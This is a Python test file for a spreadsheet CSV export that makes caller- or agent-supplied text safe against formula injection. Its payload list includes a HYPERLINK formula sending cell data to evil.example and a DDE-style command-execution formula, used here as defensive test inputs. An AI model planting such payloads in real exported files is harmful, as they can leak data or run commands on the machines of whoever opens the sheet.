"""What a caller said or an agent typed is words in a spreadsheet, never a formula: whatever splits and trims it."""

from __future__ import annotations

import csv
import io
import unicodedata
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from callbacks.spreadsheet import Column, Sheet, neutral

ZONE = ZoneInfo("Europe/Amsterdam")
PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", '"=1', "'=1", '" \'=1', "\u00a0=1", "\u200b=1",
    "\ufeff=1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "\ufe621", "\u22121", "\u2028=1", "\x00=1", "=",
    '=HYPERLINK("http://evil.example/?"&A1,"see")', "=cmd|' /C calc'!A0", "a,=1", "a;=1", 'a";=1', "a\n=1", "a;\t =1",
)  # fmt: skip
pieces = (
    st.text(alphabet="=+-@;,|\t\r\n\"' 'a0\u00a0\uff1d\uff0b\u200b\u2028\u201c") | st.text() | st.sampled_from(PAYLOADS)
)


def sheet(separator: str = ",") -> Sheet:
    columns = (Column("one", "One", {}), Column("two", "Two", {"code": "Words"}))
    return Sheet(columns, ZONE, "yes", "no", separator)


def read(text: str, separator: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))


def may_compute(cell: str) -> bool:
    """As the most trusting program would take it: whatever is unseen is dropped, wide letters are made narrow."""
    seen = "".join(letter for letter in cell if unicodedata.category(letter)[0] not in "ZCM")
    return unicodedata.normalize("NFKC", seen.lstrip('"\u201c\u201d')).startswith(("=", "+", "-", "@", "\u2212"))


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("separator", [",", ";"])
def test_a_formula_is_words(payload: str, separator: str) -> None:
    row = read(sheet(separator).rows([{"one": payload, "two": "x"}]), separator)[0]
    assert len(row) == 2
    assert not may_compute(row[0])


@given(one=pieces, two=pieces, separator=st.sampled_from([",", ";"]), split_at=st.sampled_from([",", ";", "\t", "|"]))
def test_no_cell_begins_as_a_formula_would_wherever_a_program_splits(
    one: str, two: str, separator: str, split_at: str
) -> None:
    text = sheet(separator).rows([{"one": one, "two": two}])
    assert text.count("\n") == 1
    assert not [cell for row in read(text, split_at) for cell in row if may_compute(cell)]


@given(words=st.text(alphabet=st.characters(categories=["L", "Nd"]), min_size=1).filter(lambda text: text[0] != "0"))
def test_ordinary_words_stay_as_they_are(words: str) -> None:
    assert neutral(words) == words


def test_a_phone_number_and_a_reference_can_be_read_whole() -> None:
    assert neutral("+31612345678") == "'+31612345678"
    assert neutral("0042") == "'0042"
    assert neutral("1042") == "1042"


def test_cells_say_what_they_hold_in_words() -> None:
    columns = [Column(name, name.title(), {"a": "Apple"}) for name in ("code", "codes", "is_so", "number", "due_at")]
    made = Sheet(columns, ZONE, "ja", "nee")
    record = {"code": "a", "codes": ["a", "b"], "is_so": True, "number": 0, "due_at": "2026-07-01T08:00:00.000+00:00"}
    assert read(made.rows([record])) == [["Apple", "Apple, b", "ja", "0", "2026-07-01 10:00"]]
    assert read(made.rows([dict.fromkeys(record)])) == [["", "", "", "", ""]]


def test_the_head_tells_a_spreadsheet_that_this_is_unicode() -> None:
    assert sheet().head().encode() == b'\xef\xbb\xbf"One","Two"\r\n'
